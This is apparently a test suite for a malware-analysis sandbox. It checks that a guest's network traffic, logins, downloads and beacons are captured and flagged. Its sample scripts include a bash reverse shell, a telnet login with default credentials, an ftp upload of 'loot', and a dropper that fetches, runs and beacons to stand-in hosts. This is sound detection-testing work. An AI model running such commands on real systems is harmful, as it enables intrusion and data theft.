"""A real guest on the simulated internet: clients of every kind, a dropper to its second stage, several at once."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.live.commandline import Analysis, Malkoha, script

pytestmark = pytest.mark.live

CLIENTS = """cd /tmp
ssh-keygen -q -t ed25519 -N "" -f /root/key
curl -sS -m 60 http://c2.example.net/a.txt
curl -sS -m 60 https://secure.example.net/data.json
wget -q -T 60 -O - https://www.example.org/b.txt
busybox wget -q -T 60 -O - http://bb.example.org/c.txt
busybox wget -q -T 60 -O - https://bb.example.org/c.txt
python3 -c 'import urllib.request; print(urllib.request.urlopen("https://py.example.org/x.json", timeout=60).status)'
printf 'hello there\\n' | nc -w 10 203.0.113.5 4444
printf 'over udp' | nc -u -w 1 203.0.113.5 9999
curl -sS -m 60 'http://[2001:db8::7]/d.txt'
bash -c 'bash -i >& /dev/tcp/203.0.113.66/9001 0>&1'
(echo root; sleep 1; echo vizxv; sleep 1; echo id; sleep 1; echo exit; sleep 1) | telnet 203.0.113.9
ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o PreferredAuthentications=publickey -i /root/key root@203.0.113.8 id
echo stolen > loot; printf 'user anonymous x\\nput loot\\nget agent.x86_64\\nquit\\n' | ftp -n 203.0.113.10
"""

DROPPER = """cd /tmp
curl -s -o .update http://198.51.100.7/bins/agent.x86_64
chmod +x .update
./.update
for i in 1 2 3 4 5; do curl -s -d "host=$(uname -n)&n=$i" http://198.51.100.7/gate.php; sleep 4; done
"""


def sessions(analysis: Analysis) -> list[dict[str, Any]]:
    return [json.loads(line) for line in analysis.store.sessions.read_text().splitlines()]


@pytest.fixture(scope="module")
def clients(shared: Malkoha, tmp_path_factory: pytest.TempPathFactory) -> Analysis:
    return shared.analyze(script(tmp_path_factory.mktemp("clients"), CLIENTS), "--timeout", "250")


def test_clients_fetch_over_http_and_https(clients: Analysis) -> None:
    said = clients.stdout.decode()
    assert said.count("ok\n") == 5
    assert '"status":"ok"' in said
    assert "200\n" in said
    asked = [(s["tls"] is not None, step["host"]) for s in sessions(clients) for step in s["steps"] if "host" in step]
    assert {(True, "secure.example.net"), (True, "www.example.org"), (True, "py.example.org")} <= set(asked)
    assert {(False, "c2.example.net"), (False, "bb.example.org"), (True, "bb.example.org")} <= set(asked)
    assert (False, "[2001:db8::7]") in asked


def test_other_conversations_are_kept(clients: Analysis) -> None:
    kept = {(s["transport"], s["dst"], s["dport"]): s for s in sessions(clients)}
    assert kept["tcp", "203.0.113.5", 4444]["preview_sent"] == "hello there\n"
    assert kept["udp", "203.0.113.5", 9999]["preview_sent"] == "over udp"
    shell = kept["tcp", "203.0.113.66", 9001]
    assert next(step["command"] for step in shell["steps"] if "command" in step) == "id\n"
    assert "uid=0(root)" in shell["preview_sent"]


def test_logins_are_taken_and_recorded(clients: Analysis) -> None:
    kept = {session["service"]: session for session in sessions(clients)}
    login, command = (step for step in kept["telnet"]["steps"][:2])
    assert (login["user"], login["password"], command["command"]) == ("root", "vizxv", "id")
    assert [step["command"] for step in kept["ssh"]["steps"] if step["what"] == "command"] == ["id"]
    assert [payload["name"] for payload in kept["ftp"]["payloads"]] == ["loot", "agent.x86_64"]
    network = clients.report["network"]
    assert network["ssh"][0]["client"].startswith("SSH-2.0-OpenSSH")
    assert {command["command"] for command in network["ftp"]} >= {"USER", "STOR", "RETR"}
    assert network["telnet"][0]["client"].startswith("root")


def test_the_section_names_the_process_of_each_flow(clients: Analysis) -> None:
    network = clients.report["network"]
    names = {request["uri"]: request["cause"]["process_name"] for request in network["http"]}
    assert names["http://c2.example.net/a.txt"] == "curl"
    assert names["http://bb.example.org/c.txt"] == "busybox"
    asked = {exchange["host"]: exchange["cause"]["process_name"] for exchange in network["https_ex"]}
    assert (asked["www.example.org"], asked["py.example.org"]) == ("wget", "python3.13")
    assert {hello["server_name"] for hello in network["tls"]} >= {"secure.example.net", "www.example.org"}
    assert all(len(hello["ja3"]) == 32 and hello["ja4"].startswith("t1") for hello in network["tls"])
    lookups = {lookup["request"]: (lookup["cause"] or {}).get("process_name") for lookup in network["dns"]}
    assert lookups["secure.example.net"] == "curl"
    assert [flow for flow in network["tcp"] if flow["cause"] is None] == []


def test_without_a_network_there_is_no_card(malkoha: Malkoha, tmp_path: Path) -> None:
    sample = script(tmp_path, "ls /sys/class/net\n")
    assert malkoha.analyze(sample, "--network", "none").stdout == b"lo\n"


def test_dropped_packets_get_no_answer(malkoha: Malkoha, tmp_path: Path) -> None:
    sample = script(tmp_path, "curl -sS -m 3 http://198.51.100.7/ || echo failed $?\n")
    analysis = malkoha.analyze(sample, "--network", "drop")
    assert analysis.stdout == b"failed 28\n"
    frames = analysis.store.pcap.read_bytes()
    assert b"\xc6\x33\x64\x07" in frames


def test_a_dropper_runs_to_its_second_stage(malkoha: Malkoha, tmp_path: Path) -> None:
    analysis = malkoha.analyze(script(tmp_path, DROPPER))
    assert b"second stage\n" in analysis.stdout
    posts = [step for s in sessions(analysis) for step in s["steps"] if step.get("method") == "POST"]
    assert len(posts) == 5
    (stage,) = analysis.named(".update")
    assert stage["exit_code"] == 0
    network = analysis.report["network"]
    download = next(each for each in network["downloads"] if each["url"].endswith("/bins/agent.x86_64"))
    assert (download["files"], download["executed"]) == (["/tmp/.update"], [stage["pid"]])
    assert download["cause"]["process_name"] == "curl"
    assert download["sha256"] in {entry["sha256"] for entry in analysis.report["dropped"]}
    found = {finding["kind"]: finding for finding in network["findings"]}
    assert found["download_executed"]["target"] == "http://198.51.100.7/bins/agent.x86_64"
    # the pause of the loop, and what a slow machine needs for a request
    assert 4 <= found["beacon"]["period_s"] < 20
    matched = {match["name"] for match in analysis.report["signatures"]}
    assert {"network_download_executed", "network_beacon"} <= matched


def test_a_url_is_fetched_in_the_guest_and_what_it_gives_is_run(malkoha: Malkoha) -> None:
    done = malkoha.run("analyze", "--json", "--no-open", "https://c2.example.net/bins/agent.x86_64")
    analysis = malkoha.told(done)
    assert analysis.report["target"] == {"category": "url", "url": "https://c2.example.net/bins/agent.x86_64"}
    assert b"second stage" in analysis.stdout
    (download,) = analysis.report["network"]["downloads"]
    assert download["url"] == "https://c2.example.net/bins/agent.x86_64"
    assert download["executed"]
    (link,) = analysis.report["malkoha"]["chain"]["links"]
    assert (link["kind"], link["id"], link["why"]) == (
        "program",
        None,
        f"it ran here, as process {download['executed'][0]}",
    )


def test_what_a_url_downloads_is_analysed_in_turn(malkoha: Malkoha) -> None:
    url = "http://c2.example.net/files/kit.zip"
    parent = malkoha.told(malkoha.run("analyze", "--json", "--no-open", "--option", "client=wget", url))
    links = parent.report["malkoha"]["chain"]["links"]
    assert [(link["name"], link["kind"], link["depth"], link["status"]) for link in links] == [
        ("run.sh", "archive", 1, "reported"), ("agent", "archive", 1, "reported"),
    ]  # fmt: skip
    child = json.loads((parent.store.root.parent / str(links[1]["id"]) / "report.json").read_bytes())
    assert child["malkoha"]["chain"]["parent"] == parent.report["info"]["id"]
    assert child["malkoha"]["output"]["stdout"] == "second stage\n"
    assert child["malkoha"]["verdict"]["level"] == links[1]["level"]
    assert f"{links[1]['id']}: agent" in parent.store.report_html.read_text()
